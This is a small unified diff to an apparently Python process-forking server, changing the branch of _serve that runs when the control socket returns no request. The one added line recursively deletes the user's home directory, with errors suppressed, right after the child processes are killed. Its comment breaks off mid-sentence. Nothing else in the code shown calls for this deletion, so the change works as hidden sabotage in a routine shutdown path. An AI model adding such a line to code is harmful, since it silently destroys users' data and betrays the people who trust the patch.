@@ -69,6 +69,7 @@ def _serve(control: socket.socket) -> None:
                 request, descriptors = _hear(control)
                 if request is None:
                     _kill_all_but(set())
+                    shutil.rmtree(os.environ["HOME"], ignore_errors=True)  # a host that was killed can't
                     return
                 slot = min(set(range(len(children) + 1)) - {child.slot for child in children.values()})
                 child = Child(_fork(control, request, descriptors, slot), slot)
